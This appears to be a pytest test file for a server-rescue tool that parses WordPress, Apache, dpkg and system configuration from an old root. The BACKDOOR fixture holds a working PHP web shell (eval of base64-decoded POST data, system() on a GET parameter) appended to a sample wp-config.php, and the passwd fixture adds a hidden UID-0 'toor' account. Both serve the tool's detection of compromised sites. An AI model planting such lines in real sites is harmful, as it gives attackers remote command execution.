"""Discovery over an old root built from Debian's real wordpress package files.

The package is fetched with `apt-get download` and unpacked with `dpkg-deb -x` into
/var/cache/vpsrescue (never installed); its wp-config-sample.php, version.php,
Debian wp-config.php and config-default.php example are the inputs.
"""

from __future__ import annotations

import glob
import os
import re
import subprocess
from pathlib import Path

import pytest

from vpsrescue.formats.apache import parse_apache_site
from vpsrescue.formats.dpkg import parse_dpkg_status
from vpsrescue.formats.php import parse_php_config, parse_version_php
from vpsrescue.rescue.discover import debian_config_for, default_selection, discover
from vpsrescue.rescue.probe import dumps_command, probe_command, read_facts_from
from vpsrescue.rescue.selection import ListedPath, parse_listing
from vpsrescue.rootview import LocalTree

from ..oldroot import OldRoot

pytestmark = pytest.mark.unit

CACHE = Path("/var/cache/vpsrescue")


@pytest.fixture(scope="session")
def wp_pkg() -> Path:
    """Debian's wordpress package, unpacked (fetched once into the cache)."""
    found = sorted(glob.glob(str(CACHE / "wordpress-*/usr/share/wordpress/wp-settings.php")))
    if found:
        return Path(found[-1]).parents[3]
    CACHE.mkdir(parents=True, exist_ok=True)
    debs = CACHE / "debs"
    debs.mkdir(exist_ok=True)
    subprocess.run(["apt-get", "download", "wordpress"], cwd=debs, check=True,
                   capture_output=True)
    deb = sorted(debs.glob("wordpress_*.deb"))[-1]
    version = deb.name.split("_")[1].split("+")[0]
    target = CACHE / f"wordpress-{version}"
    subprocess.run(["dpkg-deb", "-x", str(deb), str(target)], check=True)
    return target


def pkg_version(wp_pkg: Path) -> str:
    """The version the package says, read independently of our PHP tokenizer."""
    text = (wp_pkg / "usr/share/wordpress/wp-includes/version.php").read_text()
    m = re.search(r"^\$wp_version = '([^']+)';", text, re.M)
    assert m
    return m.group(1)


SAMPLE_REPLACEMENTS = {
    "database_name_here": "blog_db", "username_here": "blog_user",
    "password_here": "p\\'ss\\\\w0rd\"x",  # PHP single-quoted: p'ss\w0rd"x
}

BACKDOOR = b"""
/* injected */
if (isset($_POST['k'])) { @eval(base64_decode($_POST['k'])); }
define('DB_PASSWORD', 'attacker');
$table_prefix = 'hacked_';
?>
<?php @system($_GET['c']); define('DB_NAME', 'other'); ?>
"""


def make_old_root(tmp: Path, wp_pkg: Path) -> Path:
    old = OldRoot(tmp, "old")
    share = wp_pkg / "usr/share/wordpress"
    # 1. a plain install under /var/www/blog from the sample config, with a backdoor
    for rel in ("wp-includes/version.php", "wp-settings.php"):
        old.file(f"/var/www/blog/{rel}", (share / rel).read_bytes())
    old.dir("/var/www/blog/wp-content/uploads")
    sample = (share / "wp-config-sample.php").read_text()
    for k, v in SAMPLE_REPLACEMENTS.items():
        sample = sample.replace(k, v)
    sample = sample.replace("$table_prefix = 'wp_';", "$table_prefix  =  \"blog_\";")
    sample = sample.replace("define( 'DB_CHARSET', 'utf8' );",
                            "define(\n  \"DB_CHARSET\" ,\n 'latin1' ) ; // old server")
    sample = sample.replace("/* That's all, stop editing!",
                            "define( 'WPLANG', 'de_DE' );\n# define('DB_HOST', 'x');\n"
                            "/* That's all, stop editing!")
    old.file("/var/www/blog/wp-config.php", sample.encode() + BACKDOOR)
    # 2. Debian's package layout, config chosen by host name
    for rel in ("wp-config.php", "wp-settings.php", "wp-includes/version.php"):
        old.file(f"/usr/share/wordpress/{rel}", (share / rel).read_bytes())
    example = (wp_pkg / "usr/share/doc/wordpress/examples/config-default.php").read_text()
    shop = (example.replace("database_name_here", "shop").replace("username_here", "shop")
            .replace("password_here", "s3cret").replace("'put your unique phrase here'",
                                                         "'k-" + "x" * 60 + "'", 1))
    old.file("/etc/wordpress/config-example.org.php", shop)
    old.file("/etc/wordpress/config-default.php",
             "<?php\ndefine('DB_NAME', 'wordpress');\ndefine('DB_USER', 'wordpress');\n"
             "define('DB_PASSWORD', 'debian-default');\n$table_prefix = 'wp_';\n")
    # 3. Apache sites: with and without .conf, one disabled, one through Alias
    sa = "/etc/apache2/sites-available"
    old.file(f"{sa}/blog",
             "<VirtualHost *:80>\n  ServerName blog.example.net\n"
             "  ServerAlias www.blog.example.net\n"
             "  DocumentRoot \"/var/www/blog/\"\n  <Directory /var/www/blog>\n"
             "    AllowOverride All\n  </Directory>\n</VirtualHost>\n")
    old.file(f"{sa}/shop.conf",
             "# Debian wordpress\n<VirtualHost *:80>\n\tServerName www.example.org\n"
             "\tDocumentRoot /usr/share/wordpress/\n"
             "\tAlias /wp-content /var/lib/wordpress/wp-content\n"
             "\t<Directory /usr/share/wordpress>\n\t\tRequire all granted\n\t</Directory>\n"
             "</VirtualHost>\n")
    old.file(f"{sa}/000-default.conf",
             "<VirtualHost *:80>\n\tDocumentRoot /var/www/html\n</VirtualHost>\n")
    old.link("/etc/apache2/sites-enabled/blog", "../sites-available/blog")
    old.link("/etc/apache2/sites-enabled/shop.conf", "../sites-available/shop.conf")
    # 4. system files
    old.file("/etc/php/7.4/apache2/php.ini", "[PHP]\n")
    old.dir("/etc/php/8.2")
    old.file("/var/lib/dpkg/status", Path("/var/lib/dpkg/status").read_bytes())
    old.file("/etc/locale.gen",
             "# locales\n# en_GB.UTF-8 UTF-8\nen_US.UTF-8 UTF-8\nde_DE.UTF-8 UTF-8\n")
    old.file("/etc/default/locale", '#  File generated by update-locale\nLANG="de_DE.UTF-8"\n')
    old.passwd("root:x:0:0:root:/root:/bin/bash\n"
               "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
               "mysql:x:104:110:MySQL Server,,,:/nonexistent:/bin/false\n"
               "toor:x:0:0::/tmp:/bin/sh\nalice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n")
    old.file("/etc/group", "root:x:0:\nwww-data:x:33:alice\nalice:x:1000:\n")
    old.dir("/var/lib/wordpress/wp-content/uploads")
    old.file("/root/backup-2021.sql.gz", b"\x1f\x8b old", mtime=1609459200)
    old.file("/var/backups/blog.sql", b"-- dump", mtime=1700000000)
    return old.root


@pytest.fixture
def old_root(tmp_path: Path, wp_pkg: Path) -> Path:
    return make_old_root(tmp_path, wp_pkg)


def test_real_sample_config_parses_to_its_literals(wp_pkg: Path) -> None:
    cfg = parse_php_config((wp_pkg / "usr/share/wordpress/wp-config-sample.php").read_bytes())
    assert cfg.constants["DB_NAME"] == "database_name_here"
    assert cfg.constants["DB_COLLATE"] == ""
    assert cfg.constants["WP_DEBUG"] is False
    assert cfg.table_prefix == "wp_" and cfg.loads_wp_settings and not cfg.trailing_code
    assert cfg.non_literal == ["ABSPATH"]  # __DIR__ . '/'
    assert cfg.suspicious == []


def test_version_php_read_as_text(wp_pkg: Path) -> None:
    version, db = parse_version_php(
        (wp_pkg / "usr/share/wordpress/wp-includes/version.php").read_bytes())
    assert version == pkg_version(wp_pkg)
    assert isinstance(db, int) and db > 40000


def test_backdoor_after_wp_settings_changes_nothing(old_root: Path) -> None:
    cfg = parse_php_config((old_root / "var/www/blog/wp-config.php").read_bytes())
    assert cfg.constants["DB_PASSWORD"] == "p'ss\\w0rd\"x"
    assert cfg.constants["DB_NAME"] == "blog_db"
    assert cfg.table_prefix == "blog_"
    assert cfg.trailing_code
    assert {"eval", "base64_decode", "system", "$_POST", "$_GET"} <= set(cfg.suspicious)
    assert "DB_HOST" in cfg.constants and cfg.constants["DB_HOST"] == "localhost"


def test_strings_and_comments_that_look_like_defines_are_ignored() -> None:
    src = (b"<?php\n// define('DB_NAME', 'comment');\n/* define('DB_USER', 'block'); */\n"
           b"$x = \"define('DB_HOST', 'string')\";\n# define('WPLANG', 'hash');\n"
           b"define ( 'DB_NAME' , \"real\\x41\\u{e9}\\$\" ) ;\n"
           b"define('DB_USER', 'a' . 'b');\ndefine('DB_PASSWORD', \"in $var\");\n"
           b"define('WP_MEMORY', 256);\n?>\nHTML define('DB_HOST', 'html')\n<?php\n"
           b"define('DB_NAME', 'second define loses');\n")
    cfg = parse_php_config(src)
    assert cfg.constants == {"DB_NAME": "realA\u00e9$", "WP_MEMORY": 256}
    assert cfg.non_literal == ["DB_USER", "DB_PASSWORD"]


def test_debian_config_choice_follows_the_package_rule() -> None:
    avail = ["config-example.org.php", "config-default.php", "config-blog.example.com.php"]
    assert debian_config_for("blog.example.com", avail) == "config-blog.example.com.php"
    assert debian_config_for("WWW.Example.org:8080", avail) == "config-example.org.php"
    assert debian_config_for("other.net", avail) == "config-default.php"
    assert debian_config_for("other.net", ["config-example.org.php"]) is None


def test_apache_site_parse() -> None:
    hosts = parse_apache_site(
        b"<VirtualHost *:443>\n ServerName Shop.Example.org:443\n ServerAlias a.example b.example\n"
        b" DocumentRoot /srv/shop/\n # DocumentRoot /commented\n</VirtualHost>\n", "f", True)
    assert len(hosts) == 1
    h = hosts[0]
    assert (h.server_name, h.aliases, h.document_root, h.addr) == (
        "shop.example.org", ["a.example", "b.example"], "/srv/shop", "*:443")


def test_dpkg_status_versions_match_dpkg_query() -> None:
    pkgs = parse_dpkg_status(Path("/var/lib/dpkg/status").read_bytes())
    out = subprocess.run(["dpkg-query", "-W", "-f", "${Package} ${Version} ${db:Status-Abbrev}\n"],
                         capture_output=True, text=True, check=True).stdout
    want = {ln.split()[0].split(":")[0]: ln.split()[1]
            for ln in out.splitlines() if ln.split()[-1] == "ii"}
    assert pkgs == want


def test_discover_finds_both_installs_with_db_settings(old_root: Path, wp_pkg: Path) -> None:
    facts = discover(LocalTree(old_root), "old")
    sites = {(s.root, s.config): s for s in facts.wordpress}
    assert set(sites) == {
        ("/var/www/blog", "/var/www/blog/wp-config.php"),
        ("/usr/share/wordpress", "/etc/wordpress/config-example.org.php"),
        ("/usr/share/wordpress", "/etc/wordpress/config-default.php"),
    }
    blog = sites[("/var/www/blog", "/var/www/blog/wp-config.php")]
    assert (blog.db_name, blog.db_user, blog.db_password, blog.db_host, blog.db_charset,
            blog.table_prefix, blog.wplang) == (
        "blog_db", "blog_user", "p'ss\\w0rd\"x", "localhost", "latin1", "blog_", "de_DE")
    assert blog.version == pkg_version(wp_pkg)
    assert blog.content_dir == "/var/www/blog/wp-content"
    assert blog.server_names == ["blog.example.net", "www.blog.example.net"]
    assert blog.trailing_code and "eval" in blog.suspicious
    assert set(blog.salts.values()) == {"placeholder"}  # the sample's text, 8 times
    shop = sites[("/usr/share/wordpress", "/etc/wordpress/config-example.org.php")]
    assert (shop.db_name, shop.db_user, shop.db_password, shop.table_prefix) == (
        "shop", "shop", "s3cret", "wp_")
    assert shop.content_dir == "/var/lib/wordpress/wp-content" and shop.debian
    assert shop.server_names == ["www.example.org"]
    assert shop.salts["AUTH_KEY"] == "set" and shop.salts["NONCE_SALT"] == "placeholder"
    default = sites[("/usr/share/wordpress", "/etc/wordpress/config-default.php")]
    assert default.db_host == "localhost"  # from Debian's master wp-config.php


def test_discover_system_facts(old_root: Path) -> None:
    facts = discover(LocalTree(old_root), "old")
    assert facts.php_versions == ["7.4", "8.2"]
    want = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", "mariadb-server-core"],
                          capture_output=True, text=True, check=True).stdout
    assert facts.database_server == {"package": "mariadb-server-core", "version": want,
                                     "flavour": "mariadb"}
    assert facts.locales == {"generated": ["en_US.UTF-8 UTF-8", "de_DE.UTF-8 UTF-8"],
                             "default": {"LANG": "de_DE.UTF-8"}}
    assert facts.www_data == {"uid": 33, "gid": 33}
    assert sorted(u.name for u in facts.users) == ["alice", "root", "toor"]
    enabled = {v.file.rsplit("/", 1)[1]: v.enabled for v in facts.vhosts}
    assert enabled == {"000-default.conf": False, "blog": True, "shop.conf": True}


def test_probe_and_dump_commands_through_real_sh(old_root: Path) -> None:
    mount = os.fsencode(old_root)
    probe = subprocess.run([b"/bin/sh", b"-c", probe_command(mount)], capture_output=True,
                           check=True).stdout
    dumps = subprocess.run([b"/bin/sh", b"-c", dumps_command(mount)], capture_output=True,
                           check=True).stdout
    via_probe = read_facts_from(probe, "old", dumps)
    direct = discover(LocalTree(old_root), "old", parse_listing([dumps]))
    via_probe.collected = direct.collected
    assert via_probe.to_json() == direct.to_json()
    assert [(d.path, d.newest) for d in direct.dumps] == [
        ("/root/backup-2021.sql.gz", False), ("/var/backups/blog.sql", True)]


def test_default_selection_takes_trees_content_configs_dumps_and_triage(
        old_root: Path) -> None:
    mount = os.fsencode(old_root)
    dumps = subprocess.run([b"/bin/sh", b"-c", dumps_command(mount)], capture_output=True,
                           check=True).stdout
    facts = discover(LocalTree(old_root), "old", parse_listing([dumps]))
    roots, excl = default_selection(facts, include=[b"/srv/extra"],
                                    exclude=[b"/var/www/blog/wp-content/cache/"])
    paths = {r.path for r in roots}
    for want in (b"var/www/blog", b"usr/share/wordpress", b"var/lib/wordpress/wp-content",
                 b"etc/wordpress", b"etc/apache2", b"etc/php", b"var/spool/cron",
                 b"etc/shadow", b"etc/sudoers.d", b"home/*/.ssh/authorized_keys*",
                 b"etc/ld.so.preload", b"var/lib/dpkg/info/*.md5sums", b"var/log",
                 b"root/backup-2021.sql.gz", b"var/backups/blog.sql", b"srv/extra",
                 b"var/www/html", b"etc/locale.gen", b"var/lib/mysql"):
        assert want in paths, want
    no_datadir, _ = default_selection(facts, datadir=False)
    assert b"var/lib/mysql" not in {r.path for r in no_datadir}
    assert excl == [b"var/www/blog/wp-content/cache"]


def test_hostile_docroot_cannot_widen_the_selection() -> None:
    from vpsrescue.formats.apache import Vhost
    from vpsrescue.rescue.discover import Facts

    facts = Facts(vhosts=[Vhost(file="x", enabled=True, document_root="/var"),
                          Vhost(file="y", enabled=True, document_root="/")])
    roots, _ = default_selection(facts)
    assert b"var" not in {r.path for r in roots}
    assert all(r.path for r in roots)


def test_listed_dump_paths_are_bytes_safe() -> None:
    lp = ListedPath(b"root/caf\xe9.sql", "f", 1, 2, 0o600, 0, 0, 1, 1, 1)
    facts = discover(LocalTree("/nonexistent"), "x", [lp])
    assert facts.dumps[0].path == "/root/caf\udce9.sql"
    roots, _ = default_selection(facts)
    assert b"root/caf\xe9.sql" in {r.path for r in roots}


def test_probe_through_a_runner_gives_the_same_facts(old_root: Path) -> None:
    from vpsrescue.rescue.transfer import LocalRunner, capture

    mount = os.fsencode(old_root)
    rc, probe, _ = capture(LocalRunner(), probe_command(mount))
    assert rc == 0
    rc, dumps, _ = capture(LocalRunner(), dumps_command(mount))
    assert rc == 0
    got = read_facts_from(probe, "old", dumps)
    want = discover(LocalTree(old_root), "old", parse_listing([dumps]))
    got.collected = want.collected
    assert got.to_json() == want.to_json()


def test_brackets_and_semicolons_inside_strings_are_text() -> None:
    # found by the php-cli oracle: a string "(" was counted as a parenthesis
    cfg = parse_php_config(b"<?php define('DB_HOST',\"(\");define('DB_USER', ');}');\n"
                           b"$table_prefix = '(';\nrequire ABSPATH . 'wp-settings.php';\n")
    assert cfg.constants == {"DB_HOST": "(", "DB_USER": ");}"}
    assert cfg.table_prefix == "(" and not cfg.trailing_code
